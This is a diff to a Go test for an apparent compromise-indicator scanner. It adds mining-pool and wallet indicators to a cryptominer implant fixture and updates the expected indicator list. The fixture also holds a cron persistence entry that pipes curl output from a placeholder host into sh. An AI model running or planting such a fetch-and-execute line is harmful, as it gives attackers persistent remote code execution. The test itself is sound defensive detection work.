@@ -17,7 +17,8 @@ func TestIndicators(t *testing.T) {
 	s := &Scan{
 		Incidents: []Incident{{
 			Implants: []Implant{
-				{Kind: "process", Ref: "process:b/1@1", Name: "/var/tmp/minerd", Members: []fact.Ref{"process:b/2@2"}},
+				{Kind: "process", Ref: "process:b/1@1", Name: "/var/tmp/minerd", Members: []fact.Ref{"process:b/2@2"},
+					Flows: []*fact.Flow{{Indicators: []fact.Indicator{{Kind: "pool", Value: "203.0.113.7:3333"}, {Kind: "wallet", Value: "48heard"}}}}},
 				{Kind: "autostart", Ref: cron, Name: "* * * * * curl http://203.0.113.66:8000/a?b=c | sh", Origin: &fact.Origin{Path: "/var/spool/cron/root", Line: 5}},
 				{Kind: "key", Ref: "key:k", Name: "SHA256:abc"},
 			},
@@ -42,7 +43,7 @@ func TestIndicators(t *testing.T) {
 	}
 	want := []string{
 		"address 198.51.100.4", "address 203.0.113.66", "address 203.0.113.9", "file /var/tmp/minerd", "key SHA256:abc",
-		"pool pool.example.org:443", "url http://203.0.113.66:8000/a?b=c", "url tls://pool.example.org:443", "wallet " + wallet,
+		"pool 203.0.113.7:3333", "pool pool.example.org:443", "url http://203.0.113.66:8000/a?b=c", "url tls://pool.example.org:443", "wallet " + wallet, "wallet 48heard",
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Errorf("(-want +got):\n%s", diff)
